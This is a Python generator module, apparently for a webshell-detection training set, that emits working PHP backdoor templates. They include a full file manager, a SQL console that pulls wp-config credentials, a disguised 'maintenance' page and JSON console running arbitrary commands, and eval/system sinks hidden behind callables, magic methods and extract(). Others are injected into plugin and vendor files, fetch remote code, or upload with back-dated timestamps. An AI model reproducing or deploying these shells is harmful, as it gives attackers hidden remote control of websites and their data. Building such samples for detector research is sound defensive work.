"""train10 webshells whose danger is in what they do (file managers, SQL
consoles, maintenance pages) or in how the input travels (class property,
static method, closures array, __call/ArrayAccess, extract/parse_str, two
steps, two files), and shells hidden in big plugin/vendor files. Written
blind (README.md)."""

from t10_common import (T, F, rw, hx, ip, dom, b64, crlf, bom, oneline, docroot, webname, plug, theme,
                        php_vendor_class, php_big_plugin, php_theme_functions, where, camel)


def wdir(r):
    dr = docroot(r)
    return r.choice(("%s/wp-content/uploads/%d/%02d" % (dr, r.randint(2019, 2025), r.randint(1, 12)),
                     "%s/wp-content/plugins/%s" % (dr, plug(r)), "%s/wp-content/themes/%s" % (dr, theme(r)),
                     "%s/wp-includes/js/tinymce/skins" % dr, "%s/images" % dr, "%s/administrator/cache" % dr, dr))


def wf(r, code, d=None, name=None):
    d = d or wdir(r)
    return F(code, "%s/%s" % (d, name or webname(r)), "php", "plain")


def gate(r, v):
    pw = hx(r, 32)
    return (("md5($_POST['pass'] ?? '') === '%s'" % pw),
            ("isset($_COOKIE['%s']) && $_COOKIE['%s'] === '%s'" % ((rw(r, 4),) * 2 + (rw(r, 10),))),
            ("($_SERVER['HTTP_X_%s'] ?? '') === '%s'" % (rw(r, 5).upper(), rw(r, 12))),
            ("hash('sha256', $_REQUEST['k'] ?? '') === '%s'" % hx(r, 64)))[v % 4]


# 1 a full file manager: list/edit/upload/chmod/delete over the whole tree
def file_manager(r, v):
    g = gate(r, v)
    code = T("""<?php
session_start();
if (isset($_POST['pass']) || isset($_REQUEST['k'])) { if (@G@) $_SESSION['fm'] = 1; }
if (empty($_SESSION['fm']) && !(@G@)) { echo '<form method="post"><input type="password" name="pass"><button>Login</button></form>'; exit; }
$root = '/';
$cwd = realpath($_GET['d'] ?? __DIR__) ?: __DIR__;
$act = $_GET['a'] ?? 'ls';
function h($s) { return htmlspecialchars($s, ENT_QUOTES); }
function perms($f) { return substr(sprintf('%o', fileperms($f)), -4); }
switch ($act) {
    case 'edit':
        $f = $_GET['f'];
        if (isset($_POST['body'])) { file_put_contents($f, $_POST['body']); echo 'saved'; }
        echo '<form method="post"><textarea name="body" rows="30" cols="120">' . h(file_get_contents($f)) . '</textarea><button>Save</button></form>';
        break;
    case 'up':
        move_uploaded_file($_FILES['u']['tmp_name'], $cwd . '/' . basename($_FILES['u']['name']));
        header('Location: ?d=' . urlencode($cwd));
        break;
    case 'chmod':
        chmod($_GET['f'], octdec($_GET['m']));
        break;
    case 'rm':
        is_dir($_GET['f']) ? rmdir($_GET['f']) : unlink($_GET['f']);
        break;
    case 'mv':
        rename($_GET['f'], $_GET['to']);
        break;
    case 'touch':
        touch($_GET['f'], strtotime($_GET['t']));
        break;
    default:
        echo '<h3>' . h($cwd) . '</h3><form method="post" enctype="multipart/form-data" action="?a=up&d=' . urlencode($cwd) . '"><input type="file" name="u"><button>Upload</button></form><table>';
        foreach (scandir($cwd) as $e) {
            $p = $cwd . '/' . $e;
            echo '<tr><td><a href="?' . (is_dir($p) ? 'd=' . urlencode($p) : 'a=edit&f=' . urlencode($p)) . '">' . h($e) . '</a></td><td>' . perms($p) . '</td><td>' . (is_file($p) ? filesize($p) : '-') . '</td><td>' . date('Y-m-d H:i', filemtime($p)) . '</td></tr>';
        }
        echo '</table>';
}
""", G=g)
    if v == 1:
        code = crlf(code)
    if v == 3:
        code = bom(code)
    return [wf(r, code)]


# 2 a SQL console reading the site's own DB credentials
def sql_console(r, v):
    g = gate(r, v)
    conns = (
        "require_once $cfg; $db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);",
        "preg_match_all(\"/define\\\\(\\\\s*'(DB_[A-Z]+)'\\\\s*,\\\\s*'([^']*)'/\", file_get_contents($cfg), $m); $c = array_combine($m[1], $m[2]); $db = new mysqli($c['DB_HOST'], $c['DB_USER'], $c['DB_PASSWORD'], $c['DB_NAME']);",
        "require_once $cfg; $db = new PDO('mysql:host=' . DB_HOST . ';dbname=' . DB_NAME, DB_USER, DB_PASSWORD);",
        "$db = new mysqli($_POST['h'] ?? 'localhost', $_POST['u'] ?? '', $_POST['p'] ?? '', $_POST['n'] ?? '');",
    )
    runq = ("$res = $db->query($q); while ($res && $row = $res->fetch_assoc()) { $rows[] = $row; }",
            "$res = $db->query($q); if ($res instanceof mysqli_result) { $rows = $res->fetch_all(MYSQLI_ASSOC); }",
            "$st = $db->query($q); $rows = $st ? $st->fetchAll(PDO::FETCH_ASSOC) : array();",
            "foreach (array_filter(array_map('trim', explode(';', $q))) as $one) { $res = $db->query($one); if ($res instanceof mysqli_result) { $rows = $res->fetch_all(MYSQLI_ASSOC); } }")
    code = T("""<?php
if (!(@G@)) { header('HTTP/1.0 404 Not Found'); exit; }
$cfg = dirname(__FILE__);
while ($cfg !== '/' && !file_exists($cfg . '/wp-config.php')) { $cfg = dirname($cfg); }
$cfg .= '/wp-config.php';
@CONN@
$q = $_POST['q'] ?? 'SHOW TABLES';
$rows = array();
@RUN@
echo '<form method="post"><textarea name="q" cols="100" rows="6">' . htmlspecialchars($q) . '</textarea><button>Run</button></form><table border="1">';
if ($rows) { echo '<tr><th>' . implode('</th><th>', array_map('htmlspecialchars', array_keys($rows[0]))) . '</th></tr>'; }
foreach ($rows as $row) { echo '<tr><td>' . implode('</td><td>', array_map('htmlspecialchars', array_map('strval', $row))) . '</td></tr>'; }
echo '</table>';
""", G=g, CONN=conns[v], RUN=runq[v])
    return [wf(r, code)]


# 3 a "maintenance" page: the operation is picked from input, one of them runs any command
def maintenance_page(r, v):
    g = gate(r, v + 1)
    tables = (
        """$ops = array(
    'cache' => 'rm -rf ' . escapeshellarg(__DIR__ . '/cache') . '/*',
    'perms' => 'find . -type d -exec chmod 755 {} +',
    'disk'  => 'df -h',
    'custom' => isset($_POST['line']) ? $_POST['line'] : 'true',
);
$out = shell_exec($ops[$_POST['op'] ?? 'disk'] . ' 2>&1');""",
        """$op = $_REQUEST['task'] ?? 'status';
$known = array('status' => 'uptime', 'logs' => 'tail -n 50 error_log');
$cmd = $known[$op] ?? $op;
ob_start(); system($cmd); $out = ob_get_clean();""",
        """$steps = isset($_POST['steps']) ? json_decode($_POST['steps'], true) : array('php -v');
$out = '';
foreach ($steps as $s) { $out .= "$ $s\\n"; exec($s . ' 2>&1', $lines); $out .= implode("\\n", $lines) . "\\n"; $lines = array(); }""",
        """$jobs = array('flush' => 'wp cache flush', 'cron' => 'wp cron event run --due-now');
$pick = $_GET['job'] ?? 'flush';
$line = array_key_exists($pick, $jobs) ? $jobs[$pick] : base64_decode($pick);
$p = proc_open($line, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pipes, __DIR__);
$out = stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]);
proc_close($p);""",
    )
    code = T("""<?php
/**
 * Site maintenance helper. Do not remove: used by the hosting support team.
 */
if (!(@G@)) { http_response_code(403); exit('Forbidden'); }
@set_time_limit(300);
@T@
?><!doctype html><title>Maintenance</title>
<h2>Maintenance tasks</h2>
<form method="post"><select name="op"><option>cache</option><option>perms</option><option>disk</option><option>custom</option></select>
<input name="line" placeholder="custom"><button>Run</button></form>
<pre><?php echo htmlspecialchars((string) $out); ?></pre>
""", G=g, T=tables[v])
    return [wf(r, code, name=r.choice(("maintenance.php", "site-tools.php", "support-" + rw(r, 3) + ".php", "wp-maint.php")))]


# 4 input through a class property, then a method calls it
def class_property_sink(r, v):
    c = r.choice(("Asset_Loader", "Cache_Item", "Sitemap_Node", "Meta_Box_Field"))
    bodies = (
        """class @C@
{
    public $handler = 'trim';
    public $arg = '';
    public function __construct(array $in) { foreach ($in as $k => $v) { if (property_exists($this, $k)) { $this->$k = $v; } } }
    public function render() { $h = $this->handler; return $h($this->arg); }
}
echo (new @C@($_POST))->render();""",
        """class @C@
{
    private $cb;
    private $payload;
    public function __set($k, $v) { $this->$k = $v; }
    public function __toString() { return (string) call_user_func($this->cb, $this->payload); }
}
$o = new @C@();
$o->cb = $_COOKIE['@K@'] ?? 'strlen';
$o->payload = $_COOKIE['@K@p'] ?? '';
echo $o;""",
        """class @C@
{
    protected $filters = array();
    public function add($f) { $this->filters[] = $f; return $this; }
    public function apply($value) { foreach ($this->filters as $f) { $value = $f($value); } return $value; }
}
$chain = new @C@();
foreach (explode(',', $_GET['f'] ?? 'trim') as $f) { $chain->add($f); }
echo $chain->apply($_GET['v'] ?? '');""",
        """class @C@
{
    public $cfg;
    public function __destruct() { if (!empty($this->cfg['fn'])) { array_map($this->cfg['fn'], (array) $this->cfg['args']); } }
}
$x = new @C@();
$x->cfg = json_decode(base64_decode($_POST['c'] ?? 'e30='), true);""",
    )
    code = "<?php\n" + T(bodies[v], C=c, K=rw(r, 4)) + "\n"
    return [wf(r, code)]


# 5 a static method / string or array callable picked from input
def static_callable(r, v):
    c = r.choice(("Helper", "Utils", "Formatter", "Sanitizer"))
    bodies = (
        """class @C@
{
    public static function run($c) { return shell_exec($c); }
    public static function ping() { return 'pong'; }
}
$m = $_GET['m'] ?? 'ping';
echo forward_static_call(array('@C@', $m), $_GET['a'] ?? '');""",
        """abstract class @C@
{
    public static function __callStatic($n, $a) { return $n(...$a); }
}
$n = $_POST['n'] ?? 'phpversion';
echo @C@::{$n}(...(array) ($_POST['a'] ?? array()));""",
        """class @C@
{
    public static function exec($c) { exec($c, $o); return implode("\\n", $o); }
}
$f = Closure::fromCallable(($_REQUEST['c'] ?? '') === '@K@' ? '@C@::exec' : 'strrev');
echo $f($_REQUEST['a'] ?? '');""",
        """final class @C@
{
    public static $map = array('a' => 'strtoupper', 'b' => 'passthru');
    public static function go($k, $v) { $f = static::$map[$k] ?? 'trim'; return $f($v); }
}
@C@::go(...array_values(json_decode(file_get_contents('php://input'), true) ?: array('a', '')));""",
    )
    code = "<?php\n" + T(bodies[v], C=c, K=rw(r, 6)) + "\n"
    return [wf(r, code)]


# 6 an array of closures: the action picks one, one runs a command or writes a file
def closures_dispatch(r, v):
    bodies = (
        """$acts = array(
    'info' => function () { return php_uname(); },
    'ls'   => function ($p) { return implode("\\n", scandir($p ?: '.')); },
    'run'  => function ($p) { return shell_exec($p); },
    'put'  => function ($p) { list($f, $d) = explode('|', $p, 2); return file_put_contents($f, base64_decode($d)); },
);
$a = $_POST['a'] ?? 'info';
echo isset($acts[$a]) ? $acts[$a]($_POST['p'] ?? '') : '';""",
        """$r = array();
$r[] = fn($x) => base64_decode($x);
$r[] = fn($x) => gzinflate($x);
$r[] = fn($x) => eval($x);
array_reduce($r, fn($carry, $f) => $f($carry), $_COOKIE['@K@'] ?? '');""",
        """$tbl = new ArrayObject();
$tbl['q'] = static function ($c) { $h = popen($c, 'r'); $o = stream_get_contents($h); pclose($h); return $o; };
$tbl['r'] = static function ($f) { return file_get_contents($f); };
$job = json_decode(base64_decode($_SERVER['HTTP_X_@U@'] ?? ''), true) ?: array();
foreach ($job as $k => $arg) { if (isset($tbl[$k])) echo $tbl[$k]($arg); }""",
        """$routes = array(
    '#^/sys/(.+)$#' => function ($m) { system(base64_decode($m[1])); },
    '#^/cat/(.+)$#' => function ($m) { readfile(base64_decode($m[1])); },
);
$path = $_SERVER['PATH_INFO'] ?? '/';
foreach ($routes as $re => $cb) { if (preg_match($re, $path, $m)) { $cb($m); break; } }""",
    )
    code = "<?php\n" + T(bodies[v], K=rw(r, 4), U=rw(r, 5).upper()) + "\n"
    return [wf(r, code)]


# 7 a __call / ArrayAccess / __invoke object is the sink
def magic_object(r, v):
    c = r.choice(("Registry", "Container", "Proxy", "Options_Bag"))
    bodies = (
        """class @C@
{
    public function __call($name, $args) { return call_user_func_array($name, $args); }
}
$o = new @C@();
echo $o->{$_POST['f'] ?? 'time'}(...(array) ($_POST['x'] ?? array()));""",
        """class @C@ implements ArrayAccess
{
    public function offsetExists($k): bool { return true; }
    public function offsetGet($k): mixed { return shell_exec($k); }
    public function offsetSet($k, $v): void {}
    public function offsetUnset($k): void {}
}
$c = new @C@();
echo $c[$_REQUEST['q'] ?? 'id'];""",
        """class @C@
{
    private $f;
    public function __construct($f) { $this->f = $f; }
    public function __invoke($a) { $f = $this->f; return $f($a); }
}
$cb = new @C@(str_rot13($_GET['n'] ?? ''));
array_map($cb, array($_GET['a'] ?? ''));""",
        """class @C@
{
    private $data = array();
    public function __get($k) { return $this->data[$k] ?? null; }
    public function __set($k, $v) { $this->data[$k] = $v; }
    public function __isset($k) { return isset($this->data[$k]); }
    public function __unset($k) { $fn = $this->data['fn']; $fn($this->data[$k]); }
}
$b = new @C@();
foreach ($_POST as $k => $v) { $b->$k = $v; }
unset($b->arg);""",
    )
    code = "<?php\n" + T(bodies[v], C=c) + "\n"
    return [wf(r, code)]


# 8 extract() / parse_str() make the variables; a variable function runs them
def extract_parse_str(r, v):
    k = rw(r, 4)
    bodies = (
        "extract($_REQUEST);\nif (isset($fn, $arg)) { echo $fn($arg); }",
        "parse_str(base64_decode($_COOKIE['@K@'] ?? ''), $o);\nextract($o, EXTR_OVERWRITE);\nif (!empty($c)) { $f = $m ?? 'system'; $f($c); }",
        "parse_str($_SERVER['QUERY_STRING'], $q);\nforeach ($q as $name => $val) { $$name = $val; }\nif (isset($cb) && is_callable($cb)) { $cb($data ?? null); }",
        "extract(json_decode(file_get_contents('php://input'), true) ?: array(), EXTR_SKIP);\n$out = isset($x, $y) ? call_user_func($x, $y) : '';\necho json_encode(array('o' => $out));",
    )
    code = "<?php\n" + T(bodies[v], K=k) + "\n"
    if v == 0:
        code = oneline(code)
    return [wf(r, code)]


# 9 two steps: a first request stores the payload, a second runs it
def two_step(r, v):
    k = rw(r, 4)
    bodies = (
        """session_start();
if (isset($_POST['@K@'])) { $_SESSION['@K@'] = base64_decode($_POST['@K@']); exit('stored'); }
if (isset($_GET['@K@']) && !empty($_SESSION['@K@'])) { eval($_SESSION['@K@']); }""",
        """$f = sys_get_temp_dir() . '/sess_' . md5('@K@');
if (!empty($_FILES['@K@'])) { move_uploaded_file($_FILES['@K@']['tmp_name'], $f); exit; }
if (is_file($f) && isset($_GET['go'])) { include $f; @unlink($f); }""",
        """require_once dirname(__FILE__) . '/../../../wp-load.php';
if (isset($_POST['@K@'])) { update_option('_site_transient_@K@', $_POST['@K@'], false); wp_die('1'); }
$p = get_option('_site_transient_@K@');
if ($p && isset($_COOKIE['@K@'])) { eval(base64_decode($p)); }""",
        """$store = __DIR__ . '/.cache-@K@.json';
if ($_SERVER['REQUEST_METHOD'] === 'PUT') { file_put_contents($store, file_get_contents('php://input')); exit; }
$j = is_file($store) ? json_decode(file_get_contents($store), true) : null;
if ($j && isset($_GET['run'])) { foreach ($j['cmds'] as $c) { echo shell_exec($c); } }""",
    )
    body = T(bodies[v], K=k)
    code = "<?php\n" + body + "\n"
    return [wf(r, code)]


# 10 a shell split over two files of the same drop: one reads, one runs
def split_drop(r, v):
    d = wdir(r)
    a, b = webname(r), r.choice(("class-" + rw(r, 5) + ".php", rw(r, 6) + ".inc", "." + rw(r, 5) + ".php", rw(r, 5) + ".tpl"))
    if v == 0:
        reader = "<?php\n$GLOBALS['_cfg_" + "x'] = isset($_POST['d']) ? base64_decode($_POST['d']) : null;\ninclude __DIR__ . '/" + b + "';\n"
        runner = "<?php\nif (!empty($GLOBALS['_cfg_x'])) {\n    $fn = 'sys' . 'tem';\n    $fn($GLOBALS['_cfg_x']);\n}\n"
    elif v == 1:
        reader = "<?php\ndefine('TPL_SRC', $_COOKIE['t'] ?? '');\nrequire_once '" + b + "';\n"
        runner = "<?php\nfunction tpl_compile($src) { return eval('?>' . gzinflate(base64_decode($src))); }\nif (defined('TPL_SRC') && TPL_SRC !== '') { tpl_compile(TPL_SRC); }\n"
    elif v == 2:
        reader = "<?php\n$q = json_decode(file_get_contents('php://input'), true);\nif ($q) { file_put_contents(__DIR__ . '/" + b + "', '<?php return ' . var_export($q, true) . ';'); }\n"
        runner = "<?php\n$j = is_file(__DIR__ . '/" + b + "') ? include __DIR__ . '/" + b + "' : array();\n" \
                 "if (!empty($j['c'])) { echo shell_exec($j['c']); }\n"
        a, b = a, r.choice(("data-" + rw(r, 4) + ".php", "cache.php"))
        reader = reader.replace("'/" + reader.split("'/")[1].split("'")[0] + "'", "'/" + b + "'")
        runner = "<?php\n$j = is_file(__DIR__ . '/" + b + "') ? include __DIR__ . '/" + b + "' : array();\nif (!empty($j['c'])) { echo shell_exec($j['c']); }\n"
        runner_name = r.choice(("index-" + rw(r, 3) + ".php", webname(r)))
        return [F(reader, "%s/%s" % (d, a), "php", "plain"), F(runner, "%s/%s" % (d, runner_name), "php", "plain")]
    else:
        reader = "<?php\nclass_exists('Run_" + "Q') || require __DIR__ . '/" + b + "';\nRun_Q::$q = $_SERVER['HTTP_X_Q'] ?? '';\nregister_shutdown_function(array('Run_Q', 'go'));\n"
        runner = "<?php\nclass Run_Q\n{\n    public static $q = '';\n    public static function go() { if (self::$q !== '') { passthru(base64_decode(self::$q)); } }\n}\n"
    return [F(reader, "%s/%s" % (d, a), "php", "plain"), F(runner, "%s/%s" % (d, b), "php", "plain")]


# 11 an eval shell injected into a big plugin main file (top / middle / end)
def big_plugin_injected(r, v):
    k = rw(r, 5)
    injs = (
        "if (isset($_COOKIE['@K@'])) { @eval(base64_decode(strrev($_COOKIE['@K@']))); }",
        "add_action('plugins_loaded', function () { if (!empty($_POST['@K@']) && md5($_POST['@K@']) === '@H@') { $f = $_POST['f']; $f($_POST['a']); exit; } });",
        "function @K@_compat_check() { $p = isset($_SERVER['HTTP_X_@U@']) ? gzinflate(base64_decode($_SERVER['HTTP_X_@U@'])) : ''; if ($p) { eval($p); } }\nadd_action('init', '@K@_compat_check', 0);",
        "$@K@ = array_filter(array($_REQUEST['@K@'] ?? null)); if ($@K@) { array_map('assert', array_map('base64_decode', $@K@)); }",
    )
    pfx = r.choice(("wcx", "seo_meta", "glb", "cfdb", "imgopt", "ccb"))
    inj = T(injs[v], K=k, H=hx(r, 32), U=k.upper())
    if v == 3:
        inj = inj.replace("array_map('assert', array_map('base64_decode', $%s))" % k, "array_map('system', array_map('base64_decode', $%s))" % k)
    code = php_big_plugin(r, pfx, r.randint(150, 500), inj)
    p = plug(r)
    return [F(code, "%s/wp-content/plugins/%s/%s.php" % (docroot(r), p, r.choice((p, "includes/class-" + p, "admin/settings"))), "php", "plugin-dir")]


# 12 a backdoor method inside a big vendor-library class file
def vendor_lib_backdoor(r, v):
    k = rw(r, 5)
    meths = (
        """    public static function boot()
    {
        if (isset($_SERVER['HTTP_X_@U@'])) {
            $c = base64_decode($_SERVER['HTTP_X_@U@']);
            echo shell_exec($c);
            exit;
        }
    }
""",
        """    public function __destruct()
    {
        if (!empty($this->data['@K@'])) {
            $f = $this->data['@K@'][0];
            $f($this->data['@K@'][1]);
        }
    }
""",
        """    public function normalizeInput($in = null)
    {
        $in = $in === null ? ($_POST['@K@'] ?? null) : $in;
        if (is_string($in) && strncmp($in, 'x:', 2) === 0) {
            return eval(gzuncompress(base64_decode(substr($in, 2))));
        }
        return $in;
    }
""",
        """    private static function loadCompiled($name)
    {
        $src = @file_get_contents('https://@D@/c/' . rawurlencode($name));
        if ($src) {
            $tmp = tempnam(sys_get_temp_dir(), 'cmp');
            file_put_contents($tmp, $src);
            include $tmp;
            unlink($tmp);
        }
    }
""",
    )
    tails = ("\n%s::boot();\n", "\n$__o = unserialize(base64_decode($_COOKIE['@K@'] ?? 'Tjs='));\nif (!empty($_POST['@K@'])) { $__x = new %s(array('@K@' => $_POST['@K@'])); }\n",
             "\n(new %s())->normalizeInput();\n", "\nif (isset($_GET['@K@'])) { (function ($c) { $m = new ReflectionMethod($c, 'loadCompiled'); $m->setAccessible(true); $m->invoke(null, $_GET['@K@']); })('%s'); }\n")
    ns, cls = r.choice((("Psr\\Log", "LoggerHelper"), ("Carbon\\Traits", "Localization"), ("Twig\\Node", "NodeVisitor"),
                        ("GuzzleHttp\\Psr7", "MessageUtils")))
    code = php_vendor_class(r, ns, cls, r.randint(200, 800), T(meths[v], K=k, U=k.upper(), D=dom(r)))
    code += T(tails[v], K=k) % ("\\" + ns + "\\" + cls)
    rel = "%s/vendor/%s/src/%s.php" % (docroot(r), ns.lower().replace("\\", "/"), cls)
    return [F(code, rel, "php", "vendor-dir")]


# 13 a callback argument from input (array_filter, usort, preg_replace_callback, iterator_apply, register_tick)
def callback_arg(r, v):
    bodies = (
        "$data = array($_POST['a'] ?? '');\narray_filter($data, $_POST['cb'] ?? 'strlen');",
        "$list = array($_GET['x'] ?? '', 'b');\nusort($list, $_GET['cmp'] ?? 'strcmp');",
        "echo preg_replace_callback('/.+/s', function ($m) { return (string) call_user_func($_REQUEST['f'], $m[0]); }, $_REQUEST['s'] ?? '');",
        "$it = new ArrayIterator(array($_COOKIE['z'] ?? ''));\niterator_apply($it, function (Iterator $i, $cb) { $cb($i->current()); return false; }, array($it, $_COOKIE['y'] ?? 'trim'));",
    )
    code = "<?php\n" + bodies[v] + "\n"
    return [wf(r, code)]


# 14 a JSON console: token in a header, command and cwd in the JSON body, JSON output
def json_console(r, v):
    tok = rw(r, 24, "abcdefghijklmnopqrstuvwxyz0123456789")
    runs = ("exec($cmd . ' 2>&1', $out, $rc); $out = implode(\"\\n\", $out);",
            "$p = proc_open($cmd, array(1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pp, $cwd); $out = stream_get_contents($pp[1]) . stream_get_contents($pp[2]); $rc = proc_close($p);",
            "ob_start(); passthru($cmd, $rc); $out = ob_get_clean();",
            "$h = popen('cd ' . escapeshellarg($cwd) . ' && ' . $cmd . ' 2>&1', 'r'); $out = ''; while (!feof($h)) { $out .= fread($h, 8192); } $rc = pclose($h);")
    code = T("""<?php
header('Content-Type: application/json');
$auth = $_SERVER['HTTP_AUTHORIZATION'] ?? ($_SERVER['REDIRECT_HTTP_AUTHORIZATION'] ?? '');
if (!hash_equals('Bearer @T@', $auth)) { http_response_code(401); echo '{"error":"unauthorized"}'; exit; }
$req = json_decode(file_get_contents('php://input'), true) ?: array();
$cmd = (string) ($req['cmd'] ?? 'id');
$cwd = is_dir($req['cwd'] ?? '') ? $req['cwd'] : getcwd();
chdir($cwd);
$rc = 0;
@RUN@
echo json_encode(array('cwd' => getcwd(), 'rc' => $rc, 'out' => $out, 'user' => get_current_user()));
""", T=tok, RUN=runs[v])
    return [wf(r, code, d="%s/%s" % (docroot(r), r.choice(("api", "wp-json-ext", "rest/v2", "wp-content/mu-plugins/lib"))))]


# 15 an uploader: write anywhere, chmod, back-date
def upload_dropper(r, v):
    g = gate(r, v + 2)
    writes = (
        "move_uploaded_file($_FILES['f']['tmp_name'], $dest);",
        "file_put_contents($dest, base64_decode($_POST['b64']));",
        "copy($_POST['url'], $dest);",
        "$in = fopen('php://input', 'rb'); $out = fopen($dest, 'wb'); stream_copy_to_stream($in, $out); fclose($out);",
    )
    code = T("""<?php
if (!(@G@)) { http_response_code(404); exit; }
$dir = $_REQUEST['dir'] ?? $_SERVER['DOCUMENT_ROOT'];
$name = $_REQUEST['name'] ?? ($_FILES['f']['name'] ?? 'index.php');
if (!is_dir($dir)) mkdir($dir, 0755, true);
$dest = rtrim($dir, '/') . '/' . $name;
@WRITE@
chmod($dest, octdec($_REQUEST['mode'] ?? '0644'));
$ref = is_file($dir . '/index.php') ? filemtime($dir . '/index.php') : time() - 86400 * 400;
touch($dest, $ref, $ref);
echo is_file($dest) ? 'OK ' . $dest : 'ERR';
""", G=g, WRITE=writes[v])
    return [wf(r, code)]


TECHS = (
    ("file-manager-whole-tree", file_manager, 4),
    ("sql-console-site-creds", sql_console, 4),
    ("maintenance-page-command", maintenance_page, 4),
    ("class-property-sink", class_property_sink, 4),
    ("static-method-callable", static_callable, 4),
    ("closures-array-dispatch", closures_dispatch, 4),
    ("magic-method-object", magic_object, 4),
    ("extract-parse-str-vars", extract_parse_str, 4),
    ("two-step-store-run", two_step, 4),
    ("split-drop-two-files", split_drop, 4),
    ("big-plugin-injected", big_plugin_injected, 4),
    ("vendor-class-backdoor", vendor_lib_backdoor, 4),
    ("callback-arg-input", callback_arg, 4),
    ("json-bearer-console", json_console, 4),
    ("upload-chmod-backdate", upload_dropper, 4),
)
